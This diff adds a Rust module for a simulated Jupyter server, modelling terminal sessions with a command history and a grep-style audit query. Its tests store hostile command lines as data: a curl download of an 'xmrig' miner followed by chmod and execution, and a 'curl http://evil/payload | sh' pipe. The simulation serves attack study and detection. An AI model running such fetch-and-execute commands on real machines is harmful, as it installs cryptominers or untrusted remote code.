@@ -1,0 +1,78 @@
+//! Terminal sessions — part of Jupyter's "vast attack interface
+//! (terminal, file browser, untrusted cells)" (§I).
+
+use ja_netsim::time::SimTime;
+
+/// One command entered in a terminal.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct TermCommand {
+    /// When.
+    pub time: SimTime,
+    /// The command line.
+    pub cmdline: String,
+}
+
+/// A terminal session attached to a notebook server.
+#[derive(Clone, Debug)]
+pub struct TerminalSession {
+    /// Session id.
+    pub id: u32,
+    /// Owning user.
+    pub user: String,
+    /// When opened.
+    pub opened: SimTime,
+    /// Command history.
+    pub history: Vec<TermCommand>,
+}
+
+impl TerminalSession {
+    /// New empty session.
+    pub fn new(id: u32, user: &str, opened: SimTime) -> Self {
+        TerminalSession {
+            id,
+            user: user.to_string(),
+            opened,
+            history: Vec::new(),
+        }
+    }
+
+    /// Record a command.
+    pub fn run(&mut self, time: SimTime, cmdline: &str) {
+        self.history.push(TermCommand {
+            time,
+            cmdline: cmdline.to_string(),
+        });
+    }
+
+    /// Commands matching a substring (simple audit query).
+    pub fn grep(&self, needle: &str) -> Vec<&TermCommand> {
+        self.history
+            .iter()
+            .filter(|c| c.cmdline.contains(needle))
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn history_accumulates_in_order() {
+        let mut t = TerminalSession::new(1, "alice", SimTime::ZERO);
+        t.run(SimTime::from_secs(1), "ls -la");
+        t.run(SimTime::from_secs(2), "curl http://203.0.0.9/xmrig -o /tmp/x");
+        t.run(SimTime::from_secs(3), "chmod +x /tmp/x && /tmp/x");
+        assert_eq!(t.history.len(), 3);
+        assert!(t.history.windows(2).all(|w| w[0].time <= w[1].time));
+    }
+
+    #[test]
+    fn grep_finds_suspicious_commands() {
+        let mut t = TerminalSession::new(2, "bob", SimTime::ZERO);
+        t.run(SimTime::ZERO, "python analysis.py");
+        t.run(SimTime::ZERO, "curl http://evil/payload | sh");
+        assert_eq!(t.grep("curl").len(), 1);
+        assert!(t.grep("wget").is_empty());
+    }
+}
